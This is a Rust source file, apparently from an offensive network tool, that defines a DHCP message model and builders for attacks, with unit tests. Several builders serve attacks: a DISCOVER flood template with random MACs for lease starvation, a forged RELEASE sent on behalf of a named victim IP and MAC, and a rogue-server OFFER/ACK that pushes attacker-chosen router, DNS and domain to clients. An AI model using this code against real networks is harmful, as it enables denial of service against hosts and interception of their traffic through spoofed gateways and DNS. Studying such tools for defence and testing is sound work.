//! DHCP message model and message builders
//!
//! A [`DhcpMessage`] is the wire-shaped template an attack keeps mutating and
//! re-sending: the BOOTP fixed header, the link/IP/UDP addressing used to
//! frame it, and a bounded options buffer holding raw TLVs.
//!
//! The `prepare_*` builders reshape a template into one of the standard
//! message kinds (RFC 2131/2132). They never touch fields they do not own,
//! so a template edited by hand keeps its other values.

use bytes::{BufMut, BytesMut};
use leasejack_core::{Error, MacAddr, Result};
use rand::Rng;
use std::fmt;
use std::net::Ipv4Addr;
use std::str::FromStr;

/// DHCP magic cookie, placed right after the fixed header
pub const DHCP_MAGIC_COOKIE: [u8; 4] = [0x63, 0x82, 0x53, 0x63];

/// Size of the BOOTP fixed header (op..file)
pub const FIXED_HEADER_SIZE: usize = 236;

/// Offset of the first option, past the fixed header and the magic cookie
pub const OPTIONS_OFFSET: usize = FIXED_HEADER_SIZE + DHCP_MAGIC_COOKIE.len();

/// Capacity of the options buffer
pub const MAX_OPTIONS_SIZE: usize = 312;

/// Maximum number of options produced by one decode
pub const MAX_TLV: usize = 20;

/// Maximum rendered width of a string option
pub const MAX_VALUE_LENGTH: usize = 128;

/// IPv4 identification stamped on every forged datagram
pub const IP_IDENTIFICATION: u16 = 0x5ab6;

/// DHCP server port
pub const DHCP_SERVER_PORT: u16 = 67;

/// DHCP client port
pub const DHCP_CLIENT_PORT: u16 = 68;

/// Broadcast flag value
pub const DHCP_BROADCAST_FLAG: u16 = 0x8000;

/// BOOTREQUEST opcode
pub const BOOTREQUEST: u8 = 1;

/// BOOTREPLY opcode
pub const BOOTREPLY: u8 = 2;

/// Ethernet hardware type
pub const HTYPE_ETHERNET: u8 = 1;

/// Ethernet hardware address length
pub const HLEN_ETHERNET: u8 = 6;

/// Options length of a forged RELEASE, END plus zero padding included
pub const RELEASE_OPTIONS_LEN: usize = 54;

const CHADDR_FIELD_SIZE: usize = 16;
const SNAME_FIELD_SIZE: usize = 64;
const FILE_FIELD_SIZE: usize = 128;

/// DHCP Message Types (RFC 2132)
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DhcpMessageType {
    Discover = 1,
    Offer = 2,
    Request = 3,
    Decline = 4,
    Ack = 5,
    Nak = 6,
    Release = 7,
    Inform = 8,
}

impl DhcpMessageType {
    pub fn from_u8(value: u8) -> Option<Self> {
        match value {
            1 => Some(DhcpMessageType::Discover),
            2 => Some(DhcpMessageType::Offer),
            3 => Some(DhcpMessageType::Request),
            4 => Some(DhcpMessageType::Decline),
            5 => Some(DhcpMessageType::Ack),
            6 => Some(DhcpMessageType::Nak),
            7 => Some(DhcpMessageType::Release),
            8 => Some(DhcpMessageType::Inform),
            _ => None,
        }
    }

    pub fn as_str(&self) -> &'static str {
        match self {
            DhcpMessageType::Discover => "DISCOVER",
            DhcpMessageType::Offer => "OFFER",
            DhcpMessageType::Request => "REQUEST",
            DhcpMessageType::Decline => "DECLINE",
            DhcpMessageType::Ack => "ACK",
            DhcpMessageType::Nak => "NAK",
            DhcpMessageType::Release => "RELEASE",
            DhcpMessageType::Inform => "INFORM",
        }
    }
}

impl fmt::Display for DhcpMessageType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.as_str())
    }
}

/// How an option's value is laid out and rendered
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum OptionFormat {
    /// No length byte, no value
    Marker,
    /// One byte, rendered as two hex digits
    Byte,
    /// 32-bit big-endian counter, rendered as eight hex digits
    Seconds,
    /// IPv4 address, rendered dotted-quad
    Address,
    /// Free text, rendered verbatim up to `MAX_VALUE_LENGTH`
    Text,
}

/// DHCP option codes understood by the codec (RFC 2132)
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum OptionCode {
    Pad = 0,
    SubnetMask = 1,
    Router = 3,
    DnsServer = 6,
    Hostname = 12,
    DomainName = 15,
    RequestedIpAddress = 50,
    LeaseTime = 51,
    MessageType = 53,
    ServerId = 54,
    Message = 56,
    RenewalTime = 58,
    RebindingTime = 59,
    ClassId = 60,
    End = 255,
}

impl OptionCode {
    pub fn from_u8(value: u8) -> Option<Self> {
        match value {
            0 => Some(OptionCode::Pad),
            1 => Some(OptionCode::SubnetMask),
            3 => Some(OptionCode::Router),
            6 => Some(OptionCode::DnsServer),
            12 => Some(OptionCode::Hostname),
            15 => Some(OptionCode::DomainName),
            50 => Some(OptionCode::RequestedIpAddress),
            51 => Some(OptionCode::LeaseTime),
            53 => Some(OptionCode::MessageType),
            54 => Some(OptionCode::ServerId),
            56 => Some(OptionCode::Message),
            58 => Some(OptionCode::RenewalTime),
            59 => Some(OptionCode::RebindingTime),
            60 => Some(OptionCode::ClassId),
            255 => Some(OptionCode::End),
            _ => None,
        }
    }

    pub fn code(self) -> u8 {
        self as u8
    }

    /// Label used in the rendered option list
    pub fn label(self) -> &'static str {
        match self {
            OptionCode::Pad => "Pad",
            OptionCode::SubnetMask => "SubnetMask",
            OptionCode::Router => "Router",
            OptionCode::DnsServer => "DNS",
            OptionCode::Hostname => "Hostname",
            OptionCode::DomainName => "DomainName",
            OptionCode::RequestedIpAddress => "RequestedAddr",
            OptionCode::LeaseTime => "LeaseTime",
            OptionCode::MessageType => "MessageType",
            OptionCode::ServerId => "ServerID",
            OptionCode::Message => "Message",
            OptionCode::RenewalTime => "RenewTime",
            OptionCode::RebindingTime => "RebindTime",
            OptionCode::ClassId => "ClassID",
            OptionCode::End => "End",
        }
    }

    pub fn format(self) -> OptionFormat {
        match self {
            OptionCode::Pad | OptionCode::End => OptionFormat::Marker,
            OptionCode::MessageType => OptionFormat::Byte,
            OptionCode::LeaseTime | OptionCode::RenewalTime | OptionCode::RebindingTime => {
                OptionFormat::Seconds
            }
            OptionCode::SubnetMask
            | OptionCode::Router
            | OptionCode::DnsServer
            | OptionCode::RequestedIpAddress
            | OptionCode::ServerId => OptionFormat::Address,
            OptionCode::Hostname
            | OptionCode::DomainName
            | OptionCode::Message
            | OptionCode::ClassId => OptionFormat::Text,
        }
    }
}

/// Named fields of the decoded field table
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum DhcpField {
    Smac,
    Dmac,
    Sip,
    Dip,
    Sport,
    Dport,
    Op,
    Htype,
    Hlen,
    Hops,
    Xid,
    Secs,
    Flags,
    Ciaddr,
    Yiaddr,
    Siaddr,
    Giaddr,
    Chaddr,
    /// The rendered option list as one delimited string
    Tlv,
}

impl DhcpField {
    /// Fixed fields in table order
    pub const FIXED: [DhcpField; 18] = [
        DhcpField::Smac,
        DhcpField::Dmac,
        DhcpField::Sip,
        DhcpField::Dip,
        DhcpField::Sport,
        DhcpField::Dport,
        DhcpField::Op,
        DhcpField::Htype,
        DhcpField::Hlen,
        DhcpField::Hops,
        DhcpField::Xid,
        DhcpField::Secs,
        DhcpField::Flags,
        DhcpField::Ciaddr,
        DhcpField::Yiaddr,
        DhcpField::Siaddr,
        DhcpField::Giaddr,
        DhcpField::Chaddr,
    ];

    pub fn name(self) -> &'static str {
        match self {
            DhcpField::Smac => "smac",
            DhcpField::Dmac => "dmac",
            DhcpField::Sip => "sip",
            DhcpField::Dip => "dip",
            DhcpField::Sport => "sport",
            DhcpField::Dport => "dport",
            DhcpField::Op => "op",
            DhcpField::Htype => "htype",
            DhcpField::Hlen => "hlen",
            DhcpField::Hops => "hops",
            DhcpField::Xid => "xid",
            DhcpField::Secs => "secs",
            DhcpField::Flags => "flags",
            DhcpField::Ciaddr => "ciaddr",
            DhcpField::Yiaddr => "yiaddr",
            DhcpField::Siaddr => "siaddr",
            DhcpField::Giaddr => "giaddr",
            DhcpField::Chaddr => "chaddr",
            DhcpField::Tlv => "tlv",
        }
    }
}

impl fmt::Display for DhcpField {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for DhcpField {
    type Err = Error;

    fn from_str(s: &str) -> Result<Self> {
        let lower = s.to_ascii_lowercase();
        DhcpField::FIXED
            .iter()
            .chain(std::iter::once(&DhcpField::Tlv))
            .find(|f| f.name() == lower)
            .copied()
            .ok_or_else(|| Error::invalid_parameter(s, "unknown DHCP field"))
    }
}

/// Values of a server reply (OFFER or ACK)
#[derive(Debug, Clone)]
pub struct ServerReply<'a> {
    pub kind: DhcpMessageType,
    pub server: Ipv4Addr,
    pub router: Ipv4Addr,
    pub your_ip: Ipv4Addr,
    pub xid: u32,
    pub client_mac: MacAddr,
    pub lease: u32,
    pub renew: u32,
    pub subnet: Ipv4Addr,
    pub dns: Ipv4Addr,
    pub domain: &'a str,
}

/// One DHCP message plus the addressing used to frame it
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DhcpMessage {
    pub op: u8,
    pub htype: u8,
    pub hlen: u8,
    pub hops: u8,
    pub xid: u32,
    pub secs: u16,
    pub flags: u16,
    pub ciaddr: Ipv4Addr,
    pub yiaddr: Ipv4Addr,
    pub siaddr: Ipv4Addr,
    pub giaddr: Ipv4Addr,
    pub chaddr: MacAddr,
    pub mac_source: MacAddr,
    pub mac_dest: MacAddr,
    pub sip: Ipv4Addr,
    pub dip: Ipv4Addr,
    pub sport: u16,
    pub dport: u16,
    pub(super) options: [u8; MAX_OPTIONS_SIZE],
    pub(super) options_len: usize,
}

impl Default for DhcpMessage {
    /// All-zero message with an empty options buffer
    fn default() -> Self {
        Self {
            op: 0,
            htype: 0,
            hlen: 0,
            hops: 0,
            xid: 0,
            secs: 0,
            flags: 0,
            ciaddr: Ipv4Addr::UNSPECIFIED,
            yiaddr: Ipv4Addr::UNSPECIFIED,
            siaddr: Ipv4Addr::UNSPECIFIED,
            giaddr: Ipv4Addr::UNSPECIFIED,
            chaddr: MacAddr::zero(),
            mac_source: MacAddr::zero(),
            mac_dest: MacAddr::zero(),
            sip: Ipv4Addr::UNSPECIFIED,
            dip: Ipv4Addr::UNSPECIFIED,
            sport: 0,
            dport: 0,
            options: [0; MAX_OPTIONS_SIZE],
            options_len: 0,
        }
    }
}

impl DhcpMessage {
    /// Default template: a DHCPDISCOVER from a fresh locally administered MAC
    pub fn discover() -> Self {
        let mac = MacAddr::random_local();
        let mut msg = Self {
            op: BOOTREQUEST,
            htype: HTYPE_ETHERNET,
            hlen: HLEN_ETHERNET,
            hops: 0,
            xid: rand::thread_rng().gen(),
            secs: 0,
            flags: DHCP_BROADCAST_FLAG,
            chaddr: mac,
            mac_source: mac,
            mac_dest: MacAddr::broadcast(),
            dip: Ipv4Addr::BROADCAST,
            sport: DHCP_CLIENT_PORT,
            dport: DHCP_SERVER_PORT,
            ..Self::default()
        };
        msg.fill_options(&[
            OptionCode::MessageType.code(),
            1,
            DhcpMessageType::Discover as u8,
            OptionCode::End.code(),
        ]);
        msg
    }

    /// Valid prefix of the options buffer
    pub fn options(&self) -> &[u8] {
        &self.options[..self.options_len]
    }

    pub fn options_len(&self) -> usize {
        self.options_len
    }

    /// Whole options buffer, including the zeroed tail
    pub fn options_buffer(&self) -> &[u8; MAX_OPTIONS_SIZE] {
        &self.options
    }

    /// Replace the options with `bytes`.
    ///
    /// Fails with `BufferOverflow`, leaving the message untouched, when
    /// `bytes` does not fit.
    pub fn set_options(&mut self, bytes: &[u8]) -> Result<()> {
        if bytes.len() > MAX_OPTIONS_SIZE {
            return Err(Error::BufferOverflow {
                needed: bytes.len(),
                capacity: MAX_OPTIONS_SIZE,
            });
        }
        self.fill_options(bytes);
        Ok(())
    }

    /// Fixed layouts used by the builders, all well under capacity
    fn fill_options(&mut self, bytes: &[u8]) {
        let len = bytes.len().min(MAX_OPTIONS_SIZE);
        self.options = [0; MAX_OPTIONS_SIZE];
        self.options[..len].copy_from_slice(&bytes[..len]);
        self.options_len = len;
    }

    /// First value byte of the MessageType option, if the buffer starts
    /// with a well-formed one
    pub fn message_type(&self) -> Option<DhcpMessageType> {
        match self.options() {
            [53, 1, kind, ..] => DhcpMessageType::from_u8(*kind),
            _ => None,
        }
    }

    /// Client DISCOVER, as sent by the flood
    pub fn prepare_discover(&mut self) {
        self.sport = DHCP_CLIENT_PORT;
        self.dport = DHCP_SERVER_PORT;
        self.sip = Ipv4Addr::UNSPECIFIED;
        self.dip = Ipv4Addr::BROADCAST;
        self.op = BOOTREQUEST;
        self.fill_options(&[53, 1, DhcpMessageType::Discover as u8, 255]);
    }

    /// Client INFORM; ciaddr takes the source address
    pub fn prepare_inform(&mut self) {
        self.sport = DHCP_CLIENT_PORT;
        self.dport = DHCP_SERVER_PORT;
        self.ciaddr = self.sip;
        self.dip = Ipv4Addr::BROADCAST;
        self.op = BOOTREQUEST;
        self.fill_options(&[53, 1, DhcpMessageType::Inform as u8, 255]);
    }

    /// Server OFFER with random addresses and a random lease
    pub fn prepare_offer(&mut self) {
        let mut rng = rand::thread_rng();
        self.sport = DHCP_SERVER_PORT;
        self.dport = DHCP_CLIENT_PORT;
        self.sip = Ipv4Addr::from(rng.gen::<u32>());
        self.dip = Ipv4Addr::from(rng.gen::<u32>());
        self.yiaddr = Ipv4Addr::from(rng.gen::<u32>());
        self.op = BOOTREPLY;

        let sid = self.sip.octets();
        let lease = rng.gen::<u32>().to_be_bytes();
        self.fill_options(&[
            53, 1, DhcpMessageType::Offer as u8,
            54, 4, sid[0], sid[1], sid[2], sid[3],
            51, 4, lease[0], lease[1], lease[2], lease[3],
            255,
        ]);
    }

    /// Client REQUEST for `requested` from `server`
    pub fn prepare_request(&mut self, server: Ipv4Addr, requested: Ipv4Addr) {
        self.sport = DHCP_CLIENT_PORT;
        self.dport = DHCP_SERVER_PORT;
        self.sip = Ipv4Addr::UNSPECIFIED;
        self.dip = server;
        self.op = BOOTREQUEST;

        let sid = server.octets();
        let req = requested.octets();
        self.fill_options(&[
            53, 1, DhcpMessageType::Request as u8,
            54, 4, sid[0], sid[1], sid[2], sid[3],
            50, 4, req[0], req[1], req[2], req[3],
            255,
        ]);
    }

    /// Client DECLINE of `declined`; the server id is the destination address
    pub fn prepare_decline(&mut self, declined: Ipv4Addr) {
        self.sport = DHCP_CLIENT_PORT;
        self.dport = DHCP_SERVER_PORT;
        self.op = BOOTREQUEST;
        self.ciaddr = Ipv4Addr::UNSPECIFIED;
        self.chaddr = self.mac_source;

        let sid = self.dip.octets();
        let addr = declined.octets();
        self.fill_options(&[
            53, 1, DhcpMessageType::Decline as u8,
            54, 4, sid[0], sid[1], sid[2], sid[3],
            50, 4, addr[0], addr[1], addr[2], addr[3],
            255,
        ]);
    }

    /// RELEASE of `victim_ip` on behalf of `victim_mac`, unicast to the
    /// server.
    ///
    /// The source MAC is left alone; the caller decides what to forge from.
    pub fn prepare_release(
        &mut self,
        server: Ipv4Addr,
        server_mac: MacAddr,
        victim_ip: Ipv4Addr,
        victim_mac: MacAddr,
    ) {
        self.mac_dest = server_mac;
        self.sport = DHCP_CLIENT_PORT;
        self.dport = DHCP_SERVER_PORT;
        self.sip = victim_ip;
        self.dip = server;
        self.op = BOOTREQUEST;
        self.flags = 0;
        self.ciaddr = victim_ip;
        self.chaddr = victim_mac;

        let sid = server.octets();
        let mut options = [0u8; RELEASE_OPTIONS_LEN];
        options[..10].copy_from_slice(&[
            53, 1, DhcpMessageType::Release as u8,
            54, 4, sid[0], sid[1], sid[2], sid[3],
            255,
        ]);
        self.fill_options(&options);
    }

    /// Rogue server OFFER/ACK, broadcast to the client
    pub fn prepare_server_reply(&mut self, reply: &ServerReply<'_>) -> Result<()> {
        let domain = reply.domain.as_bytes();
        let domain_len = u8::try_from(domain.len())
            .map_err(|_| Error::invalid_parameter("domain", "longer than 255 bytes"))?;

        let mut options = Vec::with_capacity(42 + domain.len());
        options.extend_from_slice(&[53, 1, reply.kind as u8]);
        options.extend_from_slice(&[54, 4]);
        options.extend_from_slice(&reply.server.octets());
        options.extend_from_slice(&[51, 4]);
        options.extend_from_slice(&reply.lease.to_be_bytes());
        options.extend_from_slice(&[58, 4]);
        options.extend_from_slice(&reply.renew.to_be_bytes());
        options.extend_from_slice(&[1, 4]);
        options.extend_from_slice(&reply.subnet.octets());
        options.extend_from_slice(&[3, 4]);
        options.extend_from_slice(&reply.router.octets());
        options.extend_from_slice(&[6, 4]);
        options.extend_from_slice(&reply.dns.octets());
        options.extend_from_slice(&[15, domain_len]);
        options.extend_from_slice(domain);
        options.push(255);
        self.set_options(&options)?;

        self.sport = DHCP_SERVER_PORT;
        self.dport = DHCP_CLIENT_PORT;
        self.op = BOOTREPLY;
        self.sip = reply.server;
        self.siaddr = reply.router;
        self.yiaddr = reply.your_ip;
        self.giaddr = Ipv4Addr::UNSPECIFIED;
        self.ciaddr = Ipv4Addr::UNSPECIFIED;
        self.dip = Ipv4Addr::BROADCAST;
        self.xid = reply.xid;
        self.chaddr = reply.client_mac;
        Ok(())
    }

    /// Set one fixed field from text.
    ///
    /// One-byte fields, xid, secs and flags are hexadecimal (an optional
    /// `0x` prefix is accepted); ports are decimal. The message is unchanged
    /// when the text does not parse.
    pub fn update_field(&mut self, field: DhcpField, value: &str) -> Result<()> {
        let value = value.trim();
        let bad = |reason: &str| Error::invalid_parameter(field.name(), reason.to_string());

        match field {
            DhcpField::Smac => self.mac_source = parse_mac(value).map_err(|_| bad("expected a MAC address"))?,
            DhcpField::Dmac => self.mac_dest = parse_mac(value).map_err(|_| bad("expected a MAC address"))?,
            DhcpField::Chaddr => self.chaddr = parse_mac(value).map_err(|_| bad("expected a MAC address"))?,
            DhcpField::Sip => self.sip = parse_ip(value).ok_or_else(|| bad("expected an IPv4 address"))?,
            DhcpField::Dip => self.dip = parse_ip(value).ok_or_else(|| bad("expected an IPv4 address"))?,
            DhcpField::Ciaddr => self.ciaddr = parse_ip(value).ok_or_else(|| bad("expected an IPv4 address"))?,
            DhcpField::Yiaddr => self.yiaddr = parse_ip(value).ok_or_else(|| bad("expected an IPv4 address"))?,
            DhcpField::Siaddr => self.siaddr = parse_ip(value).ok_or_else(|| bad("expected an IPv4 address"))?,
            DhcpField::Giaddr => self.giaddr = parse_ip(value).ok_or_else(|| bad("expected an IPv4 address"))?,
            DhcpField::Sport => self.sport = value.parse().map_err(|_| bad("expected a port number"))?,
            DhcpField::Dport => self.dport = value.parse().map_err(|_| bad("expected a port number"))?,
            DhcpField::Op => self.op = parse_hex(value).ok_or_else(|| bad("expected one hex byte"))?,
            DhcpField::Htype => self.htype = parse_hex(value).ok_or_else(|| bad("expected one hex byte"))?,
            DhcpField::Hlen => self.hlen = parse_hex(value).ok_or_else(|| bad("expected one hex byte"))?,
            DhcpField::Hops => self.hops = parse_hex(value).ok_or_else(|| bad("expected one hex byte"))?,
            DhcpField::Xid => self.xid = parse_hex(value).ok_or_else(|| bad("expected 8 hex digits"))?,
            DhcpField::Secs => self.secs = parse_hex(value).ok_or_else(|| bad("expected 4 hex digits"))?,
            DhcpField::Flags => self.flags = parse_hex(value).ok_or_else(|| bad("expected 4 hex digits"))?,
            DhcpField::Tlv => return Err(bad("options are edited one TLV at a time")),
        }
        Ok(())
    }

    /// Encode the DHCP payload: fixed header, magic cookie, then the valid
    /// options prefix
    pub fn encode(&self) -> Vec<u8> {
        let mut buf = BytesMut::with_capacity(OPTIONS_OFFSET + self.options_len);

        buf.put_u8(self.op);
        buf.put_u8(self.htype);
        buf.put_u8(self.hlen);
        buf.put_u8(self.hops);
        buf.put_u32(self.xid);
        buf.put_u16(self.secs);
        buf.put_u16(self.flags);
        buf.put_slice(&self.ciaddr.octets());
        buf.put_slice(&self.yiaddr.octets());
        buf.put_slice(&self.siaddr.octets());
        buf.put_slice(&self.giaddr.octets());
        buf.put_slice(self.chaddr.as_bytes());
        buf.put_bytes(0, CHADDR_FIELD_SIZE - 6);
        buf.put_bytes(0, SNAME_FIELD_SIZE);
        buf.put_bytes(0, FILE_FIELD_SIZE);
        buf.put_slice(&DHCP_MAGIC_COOKIE);
        buf.put_slice(self.options());

        buf.to_vec()
    }
}

fn parse_mac(value: &str) -> Result<MacAddr> {
    value.parse()
}

fn parse_ip(value: &str) -> Option<Ipv4Addr> {
    value.parse().ok()
}

/// Hex text, optional `0x` prefix, narrowed to the field width
fn parse_hex<T: TryFrom<u32>>(value: &str) -> Option<T> {
    let digits = value
        .strip_prefix("0x")
        .or_else(|| value.strip_prefix("0X"))
        .unwrap_or(value);
    let wide = u32::from_str_radix(digits, 16).ok()?;
    T::try_from(wide).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_dhcp_message_type_conversion() {
        assert_eq!(DhcpMessageType::from_u8(1), Some(DhcpMessageType::Discover));
        assert_eq!(DhcpMessageType::from_u8(8), Some(DhcpMessageType::Inform));
        assert_eq!(DhcpMessageType::from_u8(9), None);
        assert_eq!(DhcpMessageType::Ack.to_string(), "ACK");
    }

    #[test]
    fn test_option_code_formats() {
        assert_eq!(OptionCode::from_u8(53), Some(OptionCode::MessageType));
        assert_eq!(OptionCode::from_u8(61), None);
        assert_eq!(OptionCode::LeaseTime.format(), OptionFormat::Seconds);
        assert_eq!(OptionCode::ServerId.format(), OptionFormat::Address);
        assert_eq!(OptionCode::ClassId.format(), OptionFormat::Text);
        assert_eq!(OptionCode::End.format(), OptionFormat::Marker);
    }

    #[test]
    fn test_default_template_is_discover() {
        let msg = DhcpMessage::discover();

        assert_eq!(msg.op, BOOTREQUEST);
        assert_eq!((msg.htype, msg.hlen), (HTYPE_ETHERNET, HLEN_ETHERNET));
        assert_eq!(msg.dip, Ipv4Addr::BROADCAST);
        assert_eq!(msg.dip.to_string(), "255.255.255.255");
        assert_eq!(msg.options(), &[53, 1, 1, 255]);
        assert_eq!(msg.options_len(), 4);
        assert_eq!(msg.chaddr, msg.mac_source);
        assert_eq!(msg.mac_dest, MacAddr::broadcast());
        assert_eq!(msg.mac_source.0[0] & 0x03, 0x02);
        assert_eq!((msg.sport, msg.dport), (68, 67));
        assert_eq!(msg.message_type(), Some(DhcpMessageType::Discover));
    }

    #[test]
    fn test_set_options_rejects_overflow() {
        let mut msg = DhcpMessage::discover();
        let before = msg.clone();

        let result = msg.set_options(&[0u8; MAX_OPTIONS_SIZE + 1]);
        assert!(matches!(
            result,
            Err(Error::BufferOverflow { needed: 313, capacity: 312 })
        ));
        assert_eq!(msg, before);

        msg.set_options(&[0u8; MAX_OPTIONS_SIZE]).unwrap();
        assert_eq!(msg.options_len(), MAX_OPTIONS_SIZE);
    }

    #[test]
    fn test_encode_layout() {
        let mut msg = DhcpMessage::discover();
        msg.xid = 0xAABBCCDD;
        let payload = msg.encode();

        assert_eq!(payload.len(), OPTIONS_OFFSET + 4);
        assert_eq!(&payload[4..8], &[0xAA, 0xBB, 0xCC, 0xDD]);
        assert_eq!(&payload[10..12], &[0x80, 0x00]);
        assert_eq!(&payload[28..34], msg.chaddr.as_bytes());
        assert_eq!(&payload[FIXED_HEADER_SIZE..OPTIONS_OFFSET], &DHCP_MAGIC_COOKIE);
        assert_eq!(&payload[OPTIONS_OFFSET..], &[53, 1, 1, 255]);
    }

    #[test]
    fn test_prepare_offer_and_request() {
        let mut msg = DhcpMessage::discover();
        msg.prepare_offer();
        assert_eq!(msg.op, BOOTREPLY);
        assert_eq!(msg.options_len(), 16);
        assert_eq!(&msg.options()[..5], &[53, 1, 2, 54, 4]);
        assert_eq!(&msg.options()[5..9], &msg.sip.octets());
        assert_eq!(msg.options()[15], 255);

        let server = Ipv4Addr::new(192, 168, 0, 100);
        let wanted = Ipv4Addr::new(192, 168, 0, 2);
        msg.prepare_request(server, wanted);
        assert_eq!(msg.op, BOOTREQUEST);
        assert_eq!(msg.dip, server);
        assert_eq!(
            msg.options(),
            &[53, 1, 3, 54, 4, 192, 168, 0, 100, 50, 4, 192, 168, 0, 2, 255]
        );
    }

    #[test]
    fn test_prepare_inform_and_decline() {
        let mut msg = DhcpMessage::discover();
        msg.sip = Ipv4Addr::new(10, 0, 0, 7);
        msg.prepare_inform();
        assert_eq!(msg.ciaddr, Ipv4Addr::new(10, 0, 0, 7));
        assert_eq!(msg.options(), &[53, 1, 8, 255]);

        msg.dip = Ipv4Addr::new(10, 0, 0, 1);
        msg.mac_source = MacAddr([0x02, 1, 2, 3, 4, 5]);
        msg.prepare_decline(Ipv4Addr::new(10, 0, 0, 3));
        assert_eq!(msg.ciaddr, Ipv4Addr::UNSPECIFIED);
        assert_eq!(msg.chaddr, msg.mac_source);
        assert_eq!(
            msg.options(),
            &[53, 1, 4, 54, 4, 10, 0, 0, 1, 50, 4, 10, 0, 0, 3, 255]
        );
    }

    #[test]
    fn test_prepare_release_layout() {
        let mut msg = DhcpMessage::discover();
        let source = msg.mac_source;
        let server_mac = MacAddr([0x00, 0x0c, 0x29, 0, 0, 1]);
        let victim_mac = MacAddr([0x00, 0x0c, 0x29, 0, 0, 9]);

        msg.prepare_release(
            Ipv4Addr::new(10, 0, 0, 1),
            server_mac,
            Ipv4Addr::new(10, 0, 0, 9),
            victim_mac,
        );

        assert_eq!(msg.options_len(), RELEASE_OPTIONS_LEN);
        assert_eq!(&msg.options()[..10], &[53, 1, 7, 54, 4, 10, 0, 0, 1, 255]);
        assert!(msg.options()[10..].iter().all(|b| *b == 0));
        assert_eq!(msg.mac_dest, server_mac);
        assert_eq!(msg.mac_source, source);
        assert_eq!(msg.chaddr, victim_mac);
        assert_eq!(msg.ciaddr, Ipv4Addr::new(10, 0, 0, 9));
        assert_eq!(msg.sip, Ipv4Addr::new(10, 0, 0, 9));
        assert_eq!(msg.flags, 0);
    }

    #[test]
    fn test_prepare_server_reply() {
        let mut msg = DhcpMessage::discover();
        let reply = ServerReply {
            kind: DhcpMessageType::Offer,
            server: Ipv4Addr::new(10, 0, 0, 254),
            router: Ipv4Addr::new(10, 0, 0, 254),
            your_ip: Ipv4Addr::new(10, 0, 0, 10),
            xid: 0xAABBCCDD,
            client_mac: MacAddr([0xAA, 0xBB, 0xCC, 0xDD, 0xEE, 0xFF]),
            lease: 3600,
            renew: 1800,
            subnet: Ipv4Addr::new(255, 255, 255, 0),
            dns: Ipv4Addr::new(10, 0, 0, 254),
            domain: "evil.lan",
        };
        msg.prepare_server_reply(&reply).unwrap();

        assert_eq!(msg.op, BOOTREPLY);
        assert_eq!((msg.sport, msg.dport), (67, 68));
        assert_eq!(msg.options_len(), 42 + 8);
        assert_eq!(&msg.options()[..3], &[53, 1, 2]);
        assert_eq!(&msg.options()[9..15], &[51, 4, 0, 0, 0x0e, 0x10]);
        assert_eq!(&msg.options()[39..41], &[15, 8]);
        assert_eq!(msg.options()[49], 255);

        let long = "x".repeat(256);
        let too_long = ServerReply { domain: &long, ..reply };
        assert!(msg.prepare_server_reply(&too_long).is_err());
    }

    #[test]
    fn test_update_field() {
        let mut msg = DhcpMessage::default();

        msg.update_field(DhcpField::Xid, "AABBCCDD").unwrap();
        msg.update_field(DhcpField::Op, "02").unwrap();
        msg.update_field(DhcpField::Flags, "0x8000").unwrap();
        msg.update_field(DhcpField::Sport, "67").unwrap();
        msg.update_field(DhcpField::Ciaddr, "10.1.2.3").unwrap();
        msg.update_field(DhcpField::Chaddr, "aa:bb:cc:dd:ee:ff").unwrap();

        assert_eq!(msg.xid, 0xAABBCCDD);
        assert_eq!(msg.op, 2);
        assert_eq!(msg.flags, DHCP_BROADCAST_FLAG);
        assert_eq!(msg.sport, 67);
        assert_eq!(msg.ciaddr, Ipv4Addr::new(10, 1, 2, 3));
        assert_eq!(msg.chaddr, MacAddr([0xAA, 0xBB, 0xCC, 0xDD, 0xEE, 0xFF]));
    }

    #[test]
    fn test_update_field_rejects_bad_text() {
        let mut msg = DhcpMessage::discover();
        let before = msg.clone();

        assert!(msg.update_field(DhcpField::Op, "1FF").is_err());
        assert!(msg.update_field(DhcpField::Sip, "10.0.0").is_err());
        assert!(msg.update_field(DhcpField::Tlv, "anything").is_err());
        assert_eq!(msg, before);

        assert_eq!("CHADDR".parse::<DhcpField>().unwrap(), DhcpField::Chaddr);
        assert!("bogus".parse::<DhcpField>().is_err());
    }
}
